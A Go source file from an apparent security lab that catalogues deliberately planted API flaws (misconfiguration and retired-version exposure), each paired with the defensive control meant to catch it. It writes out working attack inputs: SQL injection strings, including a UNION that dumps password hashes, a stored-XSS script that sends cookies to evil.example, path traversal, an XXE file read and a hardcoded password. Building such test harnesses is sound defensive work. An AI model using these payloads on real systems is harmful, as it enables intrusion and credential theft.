package lab

import (
	"fmt"
	"net/url"
)

const databasePassword = "Tr4wl3r-n1ght"

// API8: security misconfiguration.
var configurationFlaws = []Flaw{
	{ID: "CONF-1", Title: "An error with stack trace, statement and password", Class: "API8:2023", CWE: "CWE-209",
		Control: "protect: 5xx answers are rewritten",
		Steps: func(a *Attack) {
			r := a.exploit(Attacker, "GET", "/v1/invoices?year=2016", "")
			a.leak(r.has(databasePassword) || r.has("goroutine"), "SQL statement, database password and stack trace")
		}},
	{ID: "CONF-2", Title: "Any origin may read answers with the user's credentials", Class: "API8:2023", CWE: "CWE-942",
		Control: "protect: CORS",
		Steps: func(a *Attack) {
			r := a.exploit(Attacker, "GET", "/v1/me", "", "Origin", "https://evil.example")
			a.leak(r.header.Get("Access-Control-Allow-Origin") == "https://evil.example" && r.header.Get("Access-Control-Allow-Credentials") == "true",
				"scripts of https://evil.example may read the profile")
		}},
	{ID: "CONF-3", Title: "Banners name software and machine, security headers are missing", Class: "API8:2023", CWE: "CWE-200",
		Control: "protect: headers",
		Steps: func(a *Attack) {
			r := a.exploit(nobody, "GET", "/v1/status", "")
			a.leak(r.header.Get("X-Powered-By") != "" || r.header.Get("X-Backend-Server") != "" || r.ok() && r.header.Get("X-Content-Type-Options") == "",
				"X-Powered-By: %s, X-Backend-Server: %s", r.header.Get("X-Powered-By"), r.header.Get("X-Backend-Server"))
		}},
	{ID: "CONF-4", Title: "The debugger's variables are public", Class: "API8:2023", CWE: "CWE-489",
		Control: "match: operations that the spec does not know",
		Steps: func(a *Attack) {
			r := a.exploit(nobody, "GET", "/debug/vars", "")
			a.leak(r.has(pspSecret), "database password and secret of the payment provider")
		}},
	{ID: "CONF-5", Title: "SQL injection: products that are not published", Class: "API8:2023", CWE: "CWE-89",
		Control: "inspect.head: SQL injection",
		Steps: func(a *Attack) {
			r := a.exploit(nobody, "GET", "/v1/search?limit=100&q="+url.QueryEscape("zz' OR '1'='1' -- "), "")
			a.leak(r.has("Project Kraken"), "the unreleased products, under embargo")
		}},
	{ID: "CONF-6", Title: "A script in a review runs in every visitor's browser", Class: "API8:2023", CWE: "CWE-79",
		Control: "inspect.body: cross-site scripting",
		Steps: func(a *Attack) {
			path := "/v1/products/" + a.product("HG-KIT-0001").ID + "/reviews"
			if r := a.exploit(Attacker, "POST", path, `{"stars":5,"text":"<script>fetch('https://evil.example/?c='+document.cookie)</script>"}`); !r.ok() {
				return
			}
			r := a.send(nobody, "GET", path, "")
			a.leak(r.has("<script>"), "a script in the list of reviews")
		}},
	{ID: "CONF-7", Title: "Download the configuration through dots in a file name", Class: "API8:2023", CWE: "CWE-22",
		Control: "inspect.head: path traversal",
		Steps: func(a *Attack) {
			r := a.exploit(nobody, "GET", "/v1/downloads?file="+url.QueryEscape("../config/production.env"), "")
			a.leak(r.has(pspSecret), "database password and secret of the payment provider")
		}},
	{ID: "CONF-8", Title: "An XML entity that is a file of the server", Class: "API8:2023", CWE: "CWE-611",
		Control: "content: no document type declarations",
		Steps: func(a *Attack) {
			body := `<?xml version="1.0"?><!DOCTYPE catalogue [<!ENTITY ref SYSTEM "file:///srv/shop/config/production.env">]>` +
				`<catalogue><reference>&ref;</reference><product><sku>HG-KIT-0001</sku><cost>500</cost></product></catalogue>`
			r := a.exploit(thePartner, "POST", "/v1/products/import", body, "Content-Type", "application/xml")
			a.leak(r.has(pspSecret), "database password and secret of the payment provider, for a supplier")
		}},
	{ID: "CONF-9", Title: "Two quantities in one line: one is checked, the other counts", Class: "API8:2023", CWE: "CWE-436",
		Control: "content: duplicate keys",
		Steps: func(a *Attack) {
			id := a.product("HG-HOM-0008").ID
			a.exploit(Attacker, "POST", "/v1/orders", fmt.Sprintf(`{"items":[{"productId":"%s","quantity":1,"quantity":40}]}`, id))
			left := a.product("HG-HOM-0008").Stock
			a.leak(left == 0, "the whole edition in one order that was checked for one piece")
		}},
	{ID: "CONF-10", Title: "TRACE echoes credentials", Class: "API8:2023", CWE: "CWE-693",
		Control: "protocol: methods",
		Steps: func(a *Attack) {
			r := a.exploit(Attacker, "TRACE", "/v1/status", "")
			a.leak(r.has("Bearer "), "the token, where a script could read it")
		}},
	{ID: "CONF-11", Title: "SQL injection: password hashes by UNION", Class: "API8:2023", CWE: "CWE-89",
		Control: "inspect.head: SQL injection",
		Steps: func(a *Attack) {
			r := a.exploit(nobody, "GET", "/v1/search?limit=100&q="+url.QueryEscape("zz' UNION SELECT id, email, passwordHash FROM customers -- "), "")
			a.leak(r.has(a.customer("cus_0001").PasswordHash), "e-mail addresses and password hashes of all customers")
		}},
}

// API9: improper inventory management.
var inventoryFlaws = []Flaw{
	{ID: "INV-1", Title: "The first version of the API answers everybody", Class: "API9:2023", CWE: "CWE-1059",
		Control: "match: operations that the spec does not know",
		Steps: func(a *Attack) {
			r := a.exploit(nobody, "GET", "/v0/customers", "")
			a.leak(r.has("passwordHash"), "all customers with password hashes")
		}},
	{ID: "INV-2", Title: "A debug switch brings a retired version back", Class: "API9:2023", CWE: "CWE-489",
		Control: "match: operations that the spec does not know",
		Steps: func(a *Attack) {
			r := a.exploit(nobody, "GET", "/v0/orders?debug=1", "")
			a.leak(r.has(`"payments"`), "100 orders with card numbers")
		}},
	{ID: "INV-3", Title: "The operators' probe is on the public listener", Class: "API9:2023", CWE: "CWE-538",
		Control: "match: operations that the spec does not know",
		Steps: func(a *Attack) {
			r := a.exploit(nobody, "GET", "/internal/health", "")
			a.leak(r.has(pspSecret), "database password and secret of the payment provider")
		}},
	{ID: "INV-4", Title: "A forgotten parameter shows what purchasing knows", Class: "API9:2023", CWE: "CWE-912",
		Control: "validate.params: undeclared parameters",
		Steps: func(a *Attack) {
			p := a.product("HG-APP-0002")
			r := a.exploit(nobody, "GET", "/v1/products/"+p.ID+"?view=full", "")
			a.leak(r.has("purchasing"), "supplier %s, cost and contract of %s", p.Supplier, p.Name)
		}},
}
